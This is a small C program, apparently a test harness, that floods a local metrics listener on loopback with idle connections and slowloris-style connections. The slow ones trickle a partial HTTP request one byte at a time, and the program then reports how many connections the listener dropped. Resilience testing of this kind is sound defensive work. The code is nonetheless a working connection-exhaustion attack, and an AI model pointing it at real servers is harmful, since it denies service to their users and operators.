// connflood: what any local user can do to a metrics listener: open many
// connections that never send a request, and many that send one a byte at a
// time (slowloris), then hold them all.
//
// Usage: connflood PORT IDLE SLOW
// Prints "ready IDLE SLOW" once every connection is made, then trickles a
// byte into each slow connection every 100 ms until stdin closes, and says
// how many connections the listener closed meanwhile.
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static int dial(int port)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror("connect");
		exit(1);
	}
	return fd;
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: connflood PORT IDLE SLOW\n");
		return 2;
	}
	int port = atoi(argv[1]), idle = atoi(argv[2]), slow = atoi(argv[3]);
	int *fds = calloc(idle + slow, sizeof(int));
	const char req[] = "GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: ";

	for (int i = 0; i < idle + slow; i++)
		fds[i] = dial(port);
	for (int i = idle; i < idle + slow; i++)
		write(fds[i], req, sizeof(req) - 1);
	printf("ready %d %d\n", idle, slow);
	fflush(stdout);

	int closed = 0;
	for (;;) {
		struct pollfd in = {.fd = 0, .events = POLLIN};
		char c;
		if (poll(&in, 1, 100) > 0 && read(0, &c, 1) <= 0)
			break;
		for (int i = idle; i < idle + slow; i++)
			if (fds[i] >= 0 && send(fds[i], "a", 1, MSG_NOSIGNAL) < 0) {
				close(fds[i]);
				fds[i] = -1;
			}
	}
	for (int i = 0; i < idle + slow; i++) {
		char c;
		if (fds[i] < 0 || recv(fds[i], &c, 1, MSG_DONTWAIT) >= 0 || errno != EAGAIN)
			closed++; /* closed, reset, or answered before closing */
	}
	printf("closed %d of %d\n", closed, idle + slow);
	return 0;
}
